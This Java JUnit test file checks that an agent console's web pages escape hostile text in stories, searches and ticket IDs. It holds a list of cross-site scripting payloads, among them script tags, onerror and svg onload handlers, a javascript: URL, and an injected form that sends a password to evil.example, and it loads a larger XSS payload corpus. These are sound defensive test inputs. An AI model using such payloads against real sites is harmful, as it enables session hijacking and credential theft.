package io.resolvent.agent.console;

import static org.assertj.core.api.Assertions.assertThat;

import io.resolvent.agent.SharedFiles;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class HostileTextTest {

    private static final int A_STORY = 20;
    private static final Set<String> SCRIPTS = Set.of("htmx.min.js", "resolvent.js");
    private static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "' onmouseover='alert(1)",
            "</div></main><form action=https://evil.example><input name=password></form>",
            "[[${7*7}]] [(${7*7})] __${7*7}__ ~{layout} @{/x} #{x} *{x}",
            "&lt;b&gt; &amp; <b>bold</b> **strong** \\*no\\* `code`",
            "javascript:alert(1)",
            "<!-- --> ]]> <![CDATA[ <template><svg/onload=alert(1)>",
            "\u202Eright to left\u202C and a \uD83D\uDE80 and a zero\u200Bwidth");

    private final Instant start = Instant.now().minusSeconds(10_000);

    @TempDir
    private Path home;

    private OpenConsole console;
    private Visitor lead;

    @BeforeEach
    void open() {
        console = new OpenConsole(home);
        lead = new Visitor(console.url());
        lead.logIn("lead", OpenConsole.PASSWORD);
    }

    @AfterEach
    void close() {
        lead.close();
        console.close();
    }

    @Test
    void hostile_text_is_shown_letter_by_letter() {
        List<String> stories = stories(HOSTILE);
        Document story = lead.page(stories.getFirst());
        List<String> shown =
                story.select(".text.question").stream().map(Element::wholeText).toList();
        assertThat(shown).containsExactlyElementsOf(HOSTILE.reversed());
        assertHarmless(story);
        assertHarmless(lead.page("/"));
        assertHarmless(lead.page("/decisions"));
    }

    @Test
    void a_hostile_search_is_only_a_search() {
        for (String text : HOSTILE) {
            Document page =
                    lead.page("/decisions?decision=suggest&text=" + URLEncoder.encode(text, StandardCharsets.UTF_8));
            assertThat(page.select("input[type=search]").val()).isEqualTo(text);
            assertHarmless(page);
        }
    }

    @Test
    void a_hostile_ticket_id_is_only_an_id() {
        String id = "1\"><script>alert(1)<'";
        console.commit(SomeDecisions.resolved(id, "Hello?", start));
        assertHarmless(lead.page("/"));
        Document log = lead.page("/decisions");
        assertThat(log.select("td.ticket a").text()).isEqualTo("desk:" + id);
        assertHarmless(log);
    }

    @Test
    void no_known_payload_becomes_markup() {
        List<String> payloads = Stream.of("xss", "html-benign")
                .flatMap(name -> SharedFiles.lines("attacks/" + name + ".jsonl.gz").stream())
                .map(line -> line.path("text").asString())
                .filter(text -> !text.isEmpty())
                .toList();
        assertThat(payloads).hasSizeGreaterThan(1_000);
        stories(payloads).forEach(path -> {
            Document story = lead.page(path);
            assertThat(story.select("article")).as(path).isNotEmpty();
            assertHarmless(story);
        });
        assertHarmless(lead.page("/"));
        assertHarmless(lead.page("/decisions"));
    }

    /** Keeps each text as a decision of its own, and gives the pages that show them all. */
    private List<String> stories(List<String> texts) {
        List<String> paths = new ArrayList<>();
        console.database().write(connection -> {
            for (int i = 0; i < texts.size(); i++) {
                String id = "s" + i / A_STORY;
                console.log().append(SomeDecisions.hostile(id, texts.get(i), start.plusMillis(i)));
                if (i % A_STORY == 0) {
                    paths.add("/tickets/desk/" + id);
                }
            }
            return texts.size();
        });
        return paths;
    }

    private static void assertHarmless(Document page) {
        assertThat(page.select("script")).hasSize(SCRIPTS.size()).allSatisfy(script -> {
            assertThat(script.data()).isEmpty();
            assertThat(SCRIPTS).anyMatch(name -> script.attr("src").endsWith("/" + name));
        });
        assertThat(
                        page.select(
                                "iframe, object, embed, base, style, template, img, video, audio, math, marquee, b, a[href^=javascript]"))
                .isEmpty();
        assertThat(page.select("form"))
                .allSatisfy(form -> assertThat(form.attr("action")).isIn("/logout", "/decisions"));
        for (Element element : page.getAllElements()) {
            assertThat(element.attributes().asList())
                    .extracting(Attribute::getKey)
                    .noneMatch(name -> name.startsWith("on"));
        }
    }
}
